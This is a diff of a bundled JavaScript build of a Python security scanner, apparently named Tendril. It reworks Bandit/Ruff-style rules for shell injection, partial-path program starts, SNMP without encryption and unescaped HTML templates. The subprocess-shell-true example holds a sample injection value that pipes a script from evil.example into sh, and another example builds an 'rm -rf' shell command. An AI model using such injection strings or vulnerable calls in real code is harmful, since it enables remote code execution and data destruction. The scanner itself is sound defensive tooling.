+    notReported: ['Functions that use a shell (`start-process-with-shell`) and `subprocess` functions (`subprocess-without-shell`).'],
+});
+
+
+/***/ }),
+
+/***/ 4251:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.startProcessWithPartialPath = void 0;
+/** Bandit B607 / Ruff S607: a process started with a literal program name that is not an absolute path. */
+const arguments_1 = __nccwpck_require__(9950);
+const literals_1 = __nccwpck_require__(8436);
+const common_1 = __nccwpck_require__(8925);
+const apis_1 = __nccwpck_require__(1813);
+/** True when a literal program name is not an absolute path (`/bin/ls`, `C:\\...`, `\\\\server\\...`). */
+function isPartialPath(program) {
+    return !(program.startsWith('/') || program.startsWith('\\') || /^[A-Za-z]:[\\/]/.test(program));
+}
+exports.startProcessWithPartialPath = (0, common_1.callRule)({
+    id: 'start-process-with-partial-path', name: 'StartProcessWithPartialPath', bandit: 'B607', ruff: 'S607', severity: 'LOW', confidence: 'HIGH',
+    category: 'injection', cwe: [78], functions: [...apis_1.SUBPROCESS_FUNCTIONS, ...apis_1.SHELL_FUNCTIONS, ...apis_1.NO_SHELL_FUNCTIONS],
+    check: (call) => {
+        const command = (0, arguments_1.argumentAt)(call.node, 0, 'args');
+        if (!command)
+            return false;
+        const expr = (0, literals_1.unparenthesize)(command);
+        const first = expr.type === 'list' || expr.type === 'tuple' ? expr.namedChildren.find((c) => c && c.type !== 'comment') : expr;
+        if (!first)
+            return false;
+        const value = (0, literals_1.stringLiteralValue)(first);
+        return value !== undefined && value.trim() !== '' && isPartialPath(value.trim()) ? command : false;
+    },
+    message: (call) => `${(0, common_1.callName)(call)} starts a program by a partial path, found through PATH: whoever controls PATH chooses what runs`,
+    short: 'process started with a program name that is not an absolute path',
+    full: 'A process is started with a literal program name that is not an absolute path, so the program is looked up through PATH; a writable directory early in PATH lets someone else\'s program run instead.',
+    title: 'A process started with a partial path',
+    why: 'A bare program name (`"git"`) is searched in the directories of `PATH`. If an attacker can add or write a directory that comes first there, their program runs instead of the intended one, with the program\'s privileges.',
+    example: 'import subprocess\n\nsubprocess.run(["git", "status"])',
+    fix: 'Use an absolute path (`/usr/bin/git`), or resolve it once with `shutil.which()` under a controlled `PATH`.',
+    fixed: 'import subprocess\n\nsubprocess.run(["/usr/bin/git", "status"])',
+    notReported: ['Programs given by a variable or built at run time.', 'Absolute paths (`/`, `\\\\`, or a drive letter).'],
+});
+
+
+/***/ }),
+
+/***/ 3670:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.startProcessWithShellLiteral = void 0;
+/**
+ * Bandit B605 / Ruff S605, LOW: a function that always uses a shell given a literal command. The
+ * same call with a command built at run time is `start-process-with-shell` (HIGH).
+ */
+const arguments_1 = __nccwpck_require__(9950);
+const common_1 = __nccwpck_require__(8925);
+const apis_1 = __nccwpck_require__(1813);
+const commands_1 = __nccwpck_require__(2962);
+exports.startProcessWithShellLiteral = (0, common_1.callRule)({
+    id: 'start-process-with-shell-literal', name: 'StartProcessWithShellLiteral', bandit: 'B605', ruff: 'S605', severity: 'LOW', confidence: 'HIGH',
+    category: 'injection', cwe: [78], functions: apis_1.SHELL_FUNCTIONS,
+    check: (call) => {
+        const command = (0, arguments_1.argumentAt)(call.node, 0);
+        return command !== undefined && (0, commands_1.isLiteralCommand)(command);
+    },
+    message: (call) => `${(0, common_1.callName)(call)} runs a literal command through a shell: safe as written, but not if the command gains a variable part`,
+    short: 'a function that always uses a shell runs a literal command',
+    full: 'os.system, os.popen, subprocess.getoutput and similar run their command through a shell. Here the command is a fixed literal, safe today but a shell injection as soon as it gains a variable part.',
+    title: 'A literal command run through a shell',
+    why: 'These functions pass their string to `/bin/sh -c` (or `cmd.exe`). The shell interprets spaces, quotes, `;`, `|`, `$(...)` and wildcards in everything the string contains, so values pasted into it become shell syntax.',
+    example: 'import os\n\nos.system("make clean")',
+    fix: 'Use `subprocess.run([...])` with an argument list and no shell. If a shell is needed, quote every variable part with `shlex.quote()`.',
+    fixed: 'import subprocess\n\nsubprocess.run(["make", "clean"])',
+    notReported: ['Calls whose command is not the first positional argument (`os.popen(cmd=...)`, `*args`), as in Ruff.'],
+    note: '## Why two rules\n\nBandit grades B605 high for a command built at run time and low for a literal one. Tendril reports the two as `start-process-with-shell` (high) and `start-process-with-shell-literal` (low); both answer to `B605` and `S605`.',
+});
+
+
+/***/ }),
+
+/***/ 740:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.startProcessWithShell = void 0;
+/**
+ * Bandit B605 / Ruff S605, HIGH: a function that always uses a shell (`os.system`, `os.popen`,
+ * `subprocess.getoutput`, ...) given a command built at run time. The same call with a literal
+ * command is `start-process-with-shell-literal` (LOW), as Bandit grades the two.
+ */
+const arguments_1 = __nccwpck_require__(9950);
+const common_1 = __nccwpck_require__(8925);
+const apis_1 = __nccwpck_require__(1813);
+const commands_1 = __nccwpck_require__(2962);
+exports.startProcessWithShell = (0, common_1.callRule)({
+    id: 'start-process-with-shell', name: 'StartProcessWithShell', bandit: 'B605', ruff: 'S605', severity: 'HIGH', confidence: 'HIGH',
+    category: 'injection', cwe: [78], functions: apis_1.SHELL_FUNCTIONS,
+    check: (call) => {
+        const command = (0, arguments_1.argumentAt)(call.node, 0);
+        return command !== undefined && !(0, commands_1.isLiteralCommand)(command);
+    },
+    message: (call) => `${(0, common_1.callName)(call)} runs a command built at run time through a shell: any part from outside the program can inject shell commands`,
+    short: 'a function that always uses a shell runs a command built at run time',
+    full: 'os.system, os.popen, subprocess.getoutput and similar run their command through a shell, and here the command is built at run time: any part of it from outside the program can inject shell commands.',
+    title: 'A command built at run time run through a shell',
+    why: 'These functions pass their string to `/bin/sh -c` (or `cmd.exe`). The shell interprets spaces, quotes, `;`, `|`, `$(...)` and wildcards in everything the string contains, so values pasted into it become shell syntax.',
+    example: 'import os\n\nos.system("rm -rf " + path)',
+    fix: 'Use `subprocess.run([...])` with an argument list and no shell. If a shell is needed, quote every variable part with `shlex.quote()`.',
+    fixed: 'import subprocess\n\nsubprocess.run(["rm", "-rf", "--", path])',
+    notReported: ['Calls whose command is not the first positional argument (`os.popen(cmd=...)`, `*args`), as in Ruff.'],
+    note: '## Why two rules\n\nBandit grades B605 high for a command built at run time and low for a literal one. Tendril reports the two as `start-process-with-shell` (high) and `start-process-with-shell-literal` (low); both answer to `B605` and `S605`.',
+});
+
+
+/***/ }),
+
+/***/ 3694:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.literalStrings = literalStrings;
+const literals_1 = __nccwpck_require__(8436);
+/**
+ * A visitor that calls `check` with the value of every whole string literal: a plain string, or
+ * an implicit concatenation as one (its parts are not checked again). The parts are recognised
+ * from the concatenation, which the walk visits first, instead of asking each string for its
+ * parent: `node.parent` costs the node's depth, which is quadratic on long chains.
+ *
+ * `needles`: every value `check` acts on contains one of them. A single string whose source has no
+ * backslash has the text between its quotes as its value (an f-string's `{{` aside), so when that
+ * source contains no needle either, the value is not computed.
+ */
+function literalStrings(context, needles, check) {
+    const parts = new Set();
+    return {
+        concatenated_string(node) {
+            for (const child of node.namedChildren)
+                if (child)
+                    parts.add(child.id);
+            const value = (0, literals_1.stringLiteralValue)(node);
+            if (value !== undefined)
+                check(node, value);
+        },
+        string(node) {
+            if (parts.has(node.id))
+                return;
+            const text = context.textOf(node);
+            if (!text.includes('\\') && !needles.some((needle) => text.includes(needle)))
+                return;
+            const value = (0, literals_1.stringLiteralValue)(node);
+            if (value !== undefined)
+                check(node, value);
         },
     };
-})();
-exports.snmpWeakCryptography = (() => {
-    const meta = (0, common_1.securityMeta)({
-        id: 'snmp-weak-cryptography', name: 'SnmpWeakCryptography', bandit: 'B509', ruff: 'S509', severity: 'MEDIUM', confidence: 'HIGH',
-        category: 'network', cwe: [319],
-        short: 'SNMPv3 user without authentication and privacy keys',
-        full: 'pysnmp\'s UsmUserData is created with fewer than three arguments, so the SNMPv3 user has no privacy (encryption) key and possibly no authentication key (noAuthNoPriv or authNoPriv).',
-        title: 'SNMPv3 without encryption',
-        why: 'An SNMPv3 user without a privacy key sends everything in clear text, and without an authentication key anyone can speak for it.',
-        example: 'from pysnmp.hlapi import UsmUserData\n\nuser = UsmUserData("monitor", "auth-key")',
-        fix: 'Give both keys and strong protocols: `UsmUserData(user, auth_key, priv_key, authProtocol=usmHMACSHAAuthProtocol, privProtocol=usmAesCfb128Protocol)`.',
-        notReported: ['Calls with three or more arguments (positional or keyword), or with `*args`/`**kwargs`.'],
-    });
-    return {
-        meta,
-        uses: [calls_1.calls],
-        create(context) {
-            return {
-                end() {
-                    for (const call of snmpCalls(context.analysis('calls'), 'UsmUserData')) {
-                        const args = call.args?.type === 'argument_list' ? call.args.namedChildren.filter((c) => c && c.type !== 'comment') : [];
-                        if (args.some((a) => a.type === 'list_splat' || a.type === 'dictionary_splat'))
-                            continue;
-                        if (args.length >= 3 || (0, calls_1.positionalArguments)(call.node).length >= 3)
-                            continue;
-                        context.report(meta, call.callee, `${(0, common_1.callName)(call)} without a privacy key sends SNMP traffic unencrypted`);
-                    }
-                },
-            };
-        },
-    };
-})();
+}
+
+
+/***/ }),
+
+/***/ 3147:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.subprocessShellTrueLiteral = void 0;
+/**
+ * Bandit B602 / Ruff S602, LOW: a `subprocess` function run with `shell=True` and a literal
+ * command (commands.ts says what is literal). The same call with a command built at run time is
+ * `subprocess-shell-true`, whose file gives the semantics both rules share.
+ */
+const calls_1 = __nccwpck_require__(4463);
+const common_1 = __nccwpck_require__(8925);
+const commands_1 = __nccwpck_require__(2962);
+/** B602, LOW: `shell=True` with a literal command. */
+exports.subprocessShellTrueLiteral = (0, common_1.securityRule)({
+    id: 'subprocess-shell-true-literal',
+    name: 'SubprocessShellTrueLiteral',
+    bandit: 'B602',
+    ruff: 'S602',
+    severity: 'LOW',
+    confidence: 'HIGH',
+    category: 'injection',
+    cwe: [78],
+    short: 'subprocess call runs a literal command through a shell (shell=True)',
+    full: 'A subprocess function (Popen, call, check_call, check_output, run) is called with shell=True ' +
+        'and a fixed literal command. It is safe as written, but the shell stays in place if the command ' +
+        'later gains a variable part, which would turn the call into a shell injection. Passing an argument ' +
+        'list without a shell removes the risk.',
+    title: 'A `subprocess` call runs a literal command through a shell',
+    why: `\`shell=True\` makes Python hand the command to \`/bin/sh -c\` (\`cmd.exe /c\` on Windows) instead of
+starting the program directly. Here the command is a fixed string, so nothing outside the program
+can change it today, and the call is not exploitable as written.
+
+It is still reported, with a low severity, because the shell stays in place when the code
+changes: the day someone adds a file name, a branch name or a user's input to that string, every
+space, quote, \`;\`, \`|\`, \`$(...)\` and \`*\` in the value is interpreted by the shell, and the
+call becomes a shell injection (CWE-78) without anything else in the line changing. The shell
+also costs an extra process and makes the command depend on the platform's shell.`,
+    example: `import subprocess
+
+subprocess.run("git status --porcelain", shell=True)`,
+    fix: `Pass the command as a list of arguments and drop \`shell=True\` (\`shell=False\` is the default).
+The program is then started directly: each list item reaches it as one argument, exactly as
+given, and no shell ever interprets it.`,
+    fixed: `import subprocess
+
+subprocess.run(["git", "status", "--porcelain"])`,
+    notReported: [
+        '`shell=False`, `shell=None`, `shell=0`, an empty literal such as `shell=[]`, or no `shell` argument.',
+        '`shell=` given by a variable or any other expression whose value is not a constant ' +
+            '(`shell=use_shell`, `shell=os.name == "nt"`): the value is not known before run time.',
+        'Calls whose function is not surely one of `subprocess.Popen`, `call`, `check_call`, ' +
+            "`check_output` and `run`: the name is resolved through the file's imports (`import subprocess " +
+            'as sp`, `from subprocess import Popen as P` are followed), and a call through a name that was ' +
+            'rebound, or imported differently in different places, is left alone.',
+        '`shell` or the command passed only inside `**kwargs`.',
+        'Functions that always use a shell (`os.system`, `subprocess.getoutput`) and `shell=True` on ' +
+            'functions outside `subprocess`: those are other checks (Bandit B605, B604).',
+    ],
+    note: `## Replacing shell features
+
+Shell features have plain-Python replacements: a pipe is two \`subprocess\` calls (or
+\`input=\`/\`stdout=\` arguments), a redirection is \`stdout=open(path, "wb")\`, a wildcard is
+\`glob.glob()\`, \`~\` and \`$HOME\` are \`os.path.expanduser()\`/\`os.environ\`, \`cd dir &&\` is
+\`cwd="dir"\`. Where a shell is really needed, quote every value that is not fixed with
+\`shlex.quote()\` (POSIX shells only; it does not protect \`cmd.exe\`):
+
+\`\`\`python
+import shlex
+import subprocess
+
+subprocess.run(f"du -sh -- {shlex.quote(path)} | sort -h", shell=True, check=True)
+\`\`\`
+
+## Why two rules
+
+Bandit grades this check by the command: high severity when it is built at run time, low when it
+is a fixed literal. A code scanning rule carries a single severity, so Tendril reports the two
+cases as \`subprocess-shell-true\` (built at run time, high) and \`subprocess-shell-true-literal\`
+(literal, low). A command is literal when it is a string (or bytes) literal without
+interpolation, a concatenation of such literals, or a list or tuple made only of them. Both answer to Bandit's \`B602\` and Ruff's \`S602\`, so selecting or ignoring
+either code covers both.`,
+    uses: [calls_1.calls],
+    create(context) {
+        return {
+            end() {
+                for (const { call, shell, command } of (0, commands_1.subprocessShellCalls)(context.analysis(calls_1.calls))) {
+                    if (!(0, commands_1.isLiteralCommand)(command))
+                        continue;
+                    context.report(call.callee, `${(0, common_1.callName)(call)} runs a literal command through a shell (${(0, commands_1.shellText)(shell)}): safe as written, ` +
+                        'but it becomes a shell injection if the command ever includes outside input; pass an argument list instead');
+                }
+            },
+        };
+    },
+});
 
 
 /***/ }),
@@ -11282,32 +12596,14 @@ exports.snmpWeakCryptography = (() => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-exports.subprocessShellTrueLiteral = exports.subprocessShellTrue = exports.SUBPROCESS_FUNCTIONS = void 0;
-exports.isLiteralCommand = isLiteralCommand;
+exports.subprocessShellTrue = void 0;
 const calls_1 = __nccwpck_require__(4463);
-const severity_1 = __nccwpck_require__(2640);
+const literals_1 = __nccwpck_require__(8436);
 const common_1 = __nccwpck_require__(8925);
-/** The `subprocess` functions that take `shell=` (Bandit's `shell_injection.subprocess` list). */
-exports.SUBPROCESS_FUNCTIONS = [
-    'subprocess.Popen',
-    'subprocess.call',
-    'subprocess.check_call',
-    'subprocess.check_output',
-    'subprocess.run',
-];
-/** True when the command cannot change at run time: literal strings, or a list/tuple of them. */
-function isLiteralCommand(command) {
-    const expr = (0, calls_1.unparenthesize)(command);
-    if ((0, calls_1.isPlainStringLiteral)(expr, { allowBytes: true }))
-        return true;
-    if (expr.type === 'list' || expr.type === 'tuple') {
-        return expr.namedChildren.every((item) => !item || item.type === 'comment' || (0, calls_1.isPlainStringLiteral)(item, { allowBytes: true }));
-    }
-    return false;
-}
+const commands_1 = __nccwpck_require__(2962);
 /** A few words on how a run-time command is built, for the message. */
 function describeCommand(command) {
-    const expr = (0, calls_1.unparenthesize)(command);
+    const expr = (0, literals_1.unparenthesize)(command);
     switch (expr.type) {
         case 'identifier':
             return `the variable \`${expr.text}\``;
@@ -11343,85 +12639,54 @@ function describeCommand(command) {
             return 'an expression';
     }
 }
-/** `shell=True` as written, or a generic wording when the value is long. */
-function shellText(value) {
-    const text = value.text.replace(/\s+/g, ' ');
-    return text.length <= 20 ? `\`shell=${text}\`` : 'a true `shell=` value';
-}
-const WHAT_IS_NOT_REPORTED = `## What is not reported
-
-- \`shell=False\`, \`shell=None\`, \`shell=0\`, an empty literal such as \`shell=[]\`, or no \`shell\` argument.
-- \`shell=\` given by a variable or any other expression whose value is not a constant
-  (\`shell=use_shell\`, \`shell=os.name == "nt"\`): the value is not known before run time.
-- Calls whose function is not surely one of \`subprocess.Popen\`, \`call\`, \`check_call\`,
-  \`check_output\` and \`run\`: the name is resolved through the file's imports (\`import subprocess
-  as sp\`, \`from subprocess import Popen as P\` are followed), and a call through a name that was
-  rebound, or imported differently in different places, is left alone.
-- \`shell\` or the command passed only inside \`**kwargs\`.
-- Functions that always use a shell (\`os.system\`, \`subprocess.getoutput\`) and \`shell=True\` on
-  functions outside \`subprocess\`: those are other checks (Bandit B605, B604).`;
-const SPLIT = `## Why two rules
-
-Bandit grades this check by the command: high severity when it is built at run time, low when it
-is a fixed literal. A code scanning rule carries a single severity, so Tendril reports the two
-cases as \`subprocess-shell-true\` (built at run time, high) and \`subprocess-shell-true-literal\`
-(literal, low). A command is literal when it is a string (or bytes) literal without
-interpolation, a concatenation of such literals, or a list or tuple made only of them. Both answer to Bandit's \`B602\` and Ruff's \`S602\`, so selecting or ignoring
-either code covers both.`;
-function helpText(literal) {
-    const intro = literal
-        ? `# A \`subprocess\` call runs a literal command through a shell
-
-\`shell=True\` makes Python hand the command to \`/bin/sh -c\` (\`cmd.exe /c\` on Windows) instead of
-starting the program directly. Here the command is a fixed string, so nothing outside the program
-can change it today, and the call is not exploitable as written.
-
-It is still reported, with a low severity, because the shell stays in place when the code
-changes: the day someone adds a file name, a branch name or a user's input to that string, every
-space, quote, \`;\`, \`|\`, \`$(...)\` and \`*\` in the value is interpreted by the shell, and the
-call becomes a shell injection (CWE-78) without anything else in the line changing. The shell
-also costs an extra process and makes the command depend on the platform's shell.
-
-## Example
-
-\`\`\`python
-import subprocess
-
-subprocess.run("git status --porcelain", shell=True)
-\`\`\``
-        : `# A \`subprocess\` call runs a command built at run time through a shell
-
-\`shell=True\` makes Python hand the command to \`/bin/sh -c\` (\`cmd.exe /c\` on Windows) instead of
+/** B602, HIGH: `shell=True` with a command built at run time. */
+exports.subprocessShellTrue = (0, common_1.securityRule)({
+    id: 'subprocess-shell-true',
+    name: 'SubprocessShellTrue',
+    bandit: 'B602',
+    ruff: 'S602',
+    severity: 'HIGH',
+    confidence: 'HIGH',
+    category: 'injection',
+    cwe: [78],
+    short: 'subprocess call runs a command built at run time through a shell (shell=True)',
+    full: 'A subprocess function (Popen, call, check_call, check_output, run) is called with shell=True ' +
+        'and a command built at run time (a variable, an f-string, formatting or a concatenation). The ' +
+        'shell interprets the whole command, so any part that comes from outside the program can inject ' +
+        'commands of its own (OS command injection). Pass an argument list without a shell instead.',
+    title: 'A `subprocess` call runs a command built at run time through a shell',
+    why: `\`shell=True\` makes Python hand the command to \`/bin/sh -c\` (\`cmd.exe /c\` on Windows) instead of
 starting the program directly. Here the command is not a fixed literal: it comes from a variable,
 an f-string, formatting or a concatenation. Whatever ends up in it is parsed by the shell, so if
 any part of it can come from outside the program (a request, a file name, a command-line
 argument, an environment variable, a database row), characters such as \`;\`, \`|\`, \`&&\`, \`$(...)\`,
 backquotes, quotes, spaces and \`*\` let that input run commands of its own choosing with the
-program's privileges: OS command injection (CWE-78).
-
-## Example
-
-\`\`\`python
-import subprocess
+program's privileges: OS command injection (CWE-78).`,
+    example: `import subprocess
 
 def archive(name):
     # name = "x; curl -s evil.example | sh" runs the attacker's script
-    subprocess.run(f"tar czf {name}.tgz {name}", shell=True, check=True)
-\`\`\``;
-    const fixed = literal
-        ? 'subprocess.run(["git", "status", "--porcelain"])'
-        : 'def archive(name):\n    subprocess.run(["tar", "czf", f"{name}.tgz", "--", name], check=True)';
-    const fix = `## How to fix
-
-Pass the command as a list of arguments and drop \`shell=True\` (\`shell=False\` is the default).
+    subprocess.run(f"tar czf {name}.tgz {name}", shell=True, check=True)`,
+    fix: `Pass the command as a list of arguments and drop \`shell=True\` (\`shell=False\` is the default).
 The program is then started directly: each list item reaches it as one argument, exactly as
-given, and no shell ever interprets it.
+given, and no shell ever interprets it.`,
+    fixed: `import subprocess
 
-\`\`\`python
-import subprocess
-
-${fixed}
-\`\`\`
+def archive(name):
+    subprocess.run(["tar", "czf", f"{name}.tgz", "--", name], check=True)`,
+    notReported: [
+        '`shell=False`, `shell=None`, `shell=0`, an empty literal such as `shell=[]`, or no `shell` argument.',
+        '`shell=` given by a variable or any other expression whose value is not a constant ' +
+            '(`shell=use_shell`, `shell=os.name == "nt"`): the value is not known before run time.',
+        'Calls whose function is not surely one of `subprocess.Popen`, `call`, `check_call`, ' +
+            "`check_output` and `run`: the name is resolved through the file's imports (`import subprocess " +
+            'as sp`, `from subprocess import Popen as P` are followed), and a call through a name that was ' +
+            'rebound, or imported differently in different places, is left alone.',
+        '`shell` or the command passed only inside `**kwargs`.',
+        'Functions that always use a shell (`os.system`, `subprocess.getoutput`) and `shell=True` on ' +
+            'functions outside `subprocess`: those are other checks (Bandit B605, B604).',
+    ],
+    note: `## Replacing shell features
 
 Shell features have plain-Python replacements: a pipe is two \`subprocess\` calls (or
 \`input=\`/\`stdout=\` arguments), a redirection is \`stdout=open(path, "wb")\`, a wildcard is
@@ -11434,149 +12699,296 @@ import shlex
 import subprocess
 
 subprocess.run(f"du -sh -- {shlex.quote(path)} | sort -h", shell=True, check=True)
-\`\`\``;
-    return [intro, fix, WHAT_IS_NOT_REPORTED, SPLIT].join('\n\n');
-}
-function makeMeta(literal) {
-    const level = literal ? 'LOW' : 'HIGH';
-    return {
-        id: literal ? 'subprocess-shell-true-literal' : 'subprocess-shell-true',
-        name: literal ? 'SubprocessShellTrueLiteral' : 'SubprocessShellTrue',
-        kind: 'security',
-        shortDescription: literal
-            ? 'subprocess call runs a literal command through a shell (shell=True)'
-            : 'subprocess call runs a command built at run time through a shell (shell=True)',
-        fullDescription: literal
-            ? 'A subprocess function (Popen, call, check_call, check_output, run) is called with shell=True ' +
-                'and a fixed literal command. It is safe as written, but the shell stays in place if the command ' +
-                'later gains a variable part, which would turn the call into a shell injection. Passing an argument ' +
-                'list without a shell removes the risk.'
-            : 'A subprocess function (Popen, call, check_call, check_output, run) is called with shell=True ' +
-                'and a command built at run time (a variable, an f-string, formatting or a concatenation). The ' +
-                'shell interprets the whole command, so any part that comes from outside the program can inject ' +
-                'commands of its own (OS command injection). Pass an argument list without a shell instead.',
-        help: helpText(literal),
-        category: 'injection',
-        aliases: ['B602', 'S602'],
-        precision: severity_1.PRECISION_FOR_CONFIDENCE.HIGH,
-        securitySeverity: severity_1.SECURITY_SEVERITY[level],
-        cwe: [78],
-    };
-}
-function makeRule(literal) {
-    const meta = makeMeta(literal);
-    return {
-        meta,
-        uses: [calls_1.calls],
-        create(context) {
-            return {
-                end() {
-                    const model = context.analysis('calls');
-                    for (const call of model.callsTo(exports.SUBPROCESS_FUNCTIONS)) {
-                        const shell = (0, calls_1.keywordValue)(call.node, 'shell');
-                        if (!shell || (0, calls_1.truthiness)(shell) !== true)
-                            continue;
-                        const command = (0, calls_1.argumentAt)(call.node, 0, 'args');
-                        if (!command || isLiteralCommand(command) !== literal)
-                            continue;
-                        const name = (0, common_1.callName)(call);
-                        const message = literal
-                            ? `${name} runs a literal command through a shell (${shellText(shell)}): safe as written, ` +
-                                'but it becomes a shell injection if the command ever includes outside input; pass an argument list instead'
-                            : `${name} runs a command built at run time (${describeCommand(command)}) through a shell ` +
-                                `(${shellText(shell)}): any part of it that comes from outside the program can inject shell commands`;
-                        context.report(meta, call.callee, message);
-                    }
-                },
-            };
-        },
-    };
-}
-/** B602, HIGH: `shell=True` with a command built at run time. */
-exports.subprocessShellTrue = makeRule(false);
-/** B602, LOW: `shell=True` with a literal command. */
-exports.subprocessShellTrueLiteral = makeRule(true);
+\`\`\`
+
+## Why two rules
+
+Bandit grades this check by the command: high severity when it is built at run time, low when it
+is a fixed literal. A code scanning rule carries a single severity, so Tendril reports the two
+cases as \`subprocess-shell-true\` (built at run time, high) and \`subprocess-shell-true-literal\`
+(literal, low). A command is literal when it is a string (or bytes) literal without
+interpolation, a concatenation of such literals, or a list or tuple made only of them. Both answer to Bandit's \`B602\` and Ruff's \`S602\`, so selecting or ignoring
+either code covers both.`,
+    uses: [calls_1.calls],
+    create(context) {
+        return {
+            end() {
+                for (const { call, shell, command } of (0, commands_1.subprocessShellCalls)(context.analysis(calls_1.calls))) {
+                    if ((0, commands_1.isLiteralCommand)(command))
+                        continue;
+                    context.report(call.callee, `${(0, common_1.callName)(call)} runs a command built at run time (${describeCommand(command)}) through a shell ` +
+                        `(${(0, commands_1.shellText)(shell)}): any part of it that comes from outside the program can inject shell commands`);
+                }
+            },
+        };
+    },
+});
 
 
 /***/ }),
 
-/***/ 1906:
+/***/ 9797:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-exports.markupsafeMarkupXss = exports.djangoMarkSafe = exports.makoTemplates = exports.jinja2AutoescapeFalse = void 0;
-/**
- * Bandit B701-B704 / Ruff S701, S702, S704: HTML produced without escaping. Jinja2 environments
- * without autoescaping (B701), Mako templates (B702), Django's `mark_safe` (B703) and MarkupSafe's
- * `Markup` (B704) applied to values that are not literals.
- */
-const calls_1 = __nccwpck_require__(4463);
+exports.subprocessWithoutShell = void 0;
+const arguments_1 = __nccwpck_require__(9950);
+const literals_1 = __nccwpck_require__(8436);
 const common_1 = __nccwpck_require__(8925);
-exports.jinja2AutoescapeFalse = (0, common_1.callRule)({
-    id: 'jinja2-autoescape-false', name: 'Jinja2AutoescapeFalse', bandit: 'B701', ruff: 'S701', severity: 'HIGH', confidence: 'HIGH',
-    category: 'xss', cwe: [94, 79], functions: ['jinja2.Environment', 'jinja2.environment.Environment'],
-    check: (call, model) => {
-        const value = (0, calls_1.keywordValue)(call.node, 'autoescape');
-        if (!value)
-            return !call.args?.namedChildren.some((c) => c?.type === 'dictionary_splat');
-        const expr = (0, calls_1.unparenthesize)(value);
-        if ((0, calls_1.truthiness)(expr) === true)
-            return false;
-        if ((0, calls_1.truthiness)(expr) === false)
-            return (0, calls_1.keywordArgument)(call.node, 'autoescape');
-        if (expr.type === 'call') {
-            const fn = expr.childForFieldName('function');
-            const q = fn ? model.resolveAssumed(fn) : undefined;
-            if (q === 'jinja2.select_autoescape' || fn?.text === 'select_autoescape' || fn?.text.endsWith('.select_autoescape'))
-                return false;
-        }
-        return (0, calls_1.keywordArgument)(call.node, 'autoescape');
-    },
-    message: (call) => `${(0, common_1.callName)(call)} without \`autoescape=True\` (or \`select_autoescape()\`) renders values unescaped: cross-site scripting`,
-    short: 'Jinja2 environment without autoescaping',
-    full: 'A jinja2.Environment is created with autoescape missing or false, so values rendered into HTML templates are not escaped and can inject script (XSS).',
-    title: 'Jinja2 autoescaping turned off',
-    why: 'Jinja2 does not escape by default. Every `{{ value }}` in an HTML template then reaches the page as markup, so a user-supplied value containing `<script>` runs in other users\' browsers.',
-    example: 'import jinja2\n\nenv = jinja2.Environment(loader=jinja2.FileSystemLoader("templates"))',
-    fix: 'Create the environment with `autoescape=jinja2.select_autoescape()` (escapes HTML and XML templates) or `autoescape=True`.',
-    notReported: ['`autoescape=True` or another true constant, and `autoescape=select_autoescape(...)`.', 'Calls passing `**kwargs` without `autoescape=`.', 'Bandit gives a non-constant `autoescape=` medium confidence; this rule reports it with the same high severity and keeps one precision for the rule.'],
-});
-exports.makoTemplates = (0, common_1.callRule)({
-    id: 'mako-templates', name: 'MakoTemplates', bandit: 'B702', ruff: 'S702', severity: 'MEDIUM', confidence: 'HIGH',
-    category: 'xss', cwe: [80], functions: ['mako.template.Template', 'mako.lookup.TemplateLookup'],
-    check: (call) => call.assumedName === 'mako.template.Template' || !(0, calls_1.keywordArgument)(call.node, 'default_filters'),
-    message: (call) => `${(0, common_1.callName)(call)}: Mako does not escape HTML by default: cross-site scripting`,
-    short: 'Mako templates render values without HTML escaping',
-    full: 'Mako templates do not escape expressions by default, so values rendered into HTML can inject script (XSS).',
-    title: 'Mako templates without escaping',
-    why: 'Mako renders `${value}` as is unless a filter is applied. In an HTML template, a user-supplied value containing markup reaches the page as markup.',
-    example: 'from mako.template import Template\n\nhtml = Template("<p>${name}</p>").render(name=name)',
-    fix: 'Pass `default_filters=["h"]` (HTML escaping) to `Template`/`TemplateLookup`, or escape each expression with `${value | h}`; review the alert after that.',
-    notReported: ['`TemplateLookup` calls that set `default_filters=`.'],
-});
-function notLiteral(call) {
-    const value = (0, calls_1.argumentAt)(call.node, 0, 's') ?? (0, calls_1.argumentAt)(call.node, 0, 'object');
-    return value !== undefined && value.type !== 'list_splat' && (0, calls_1.stringLiteralValue)(value) === undefined;
+const apis_1 = __nccwpck_require__(1813);
+const commands_1 = __nccwpck_require__(2962);
+/** A literal command, or a list/tuple of literals and `sys.executable` (the running interpreter). */
+function isTrustedCommand(command, model) {
+    if ((0, commands_1.isLiteralCommand)(command))
+        return true;
+    const expr = (0, literals_1.unparenthesize)(command);
+    if (expr.type !== 'list' && expr.type !== 'tuple')
+        return false;
+    return expr.namedChildren.every((item) => !item || item.type === 'comment' || (0, literals_1.stringLiteralValue)(item, { allowBytes: true }) !== undefined || model.resolveAssumed(item) === 'sys.executable');
 }
-exports.djangoMarkSafe = (0, common_1.callRule)({
-    id: 'django-mark-safe', name: 'DjangoMarkSafe', bandit: 'B703', severity: 'MEDIUM', confidence: 'HIGH',
-    category: 'xss', cwe: [80],
-    functions: ['django.utils.safestring.mark_safe', 'django.utils.safestring.SafeString', 'django.utils.safestring.SafeText', 'django.utils.html.mark_safe'],
-    check: notLiteral,
-    message: (call) => `${(0, common_1.callName)(call)} applied to a value that is not a literal: anything in it reaches the page unescaped`,
-    short: 'Django mark_safe/SafeString applied to a value that is not a literal',
-    full: 'mark_safe (or SafeString) marks its argument as safe HTML; when the argument is built at run time, user input in it reaches the page unescaped (XSS).',
-    title: 'Django `mark_safe` on a value built at run time',
-    why: 'Values marked safe skip Django\'s autoescaping. If any part of the string comes from a user, its markup and scripts run in the page.',
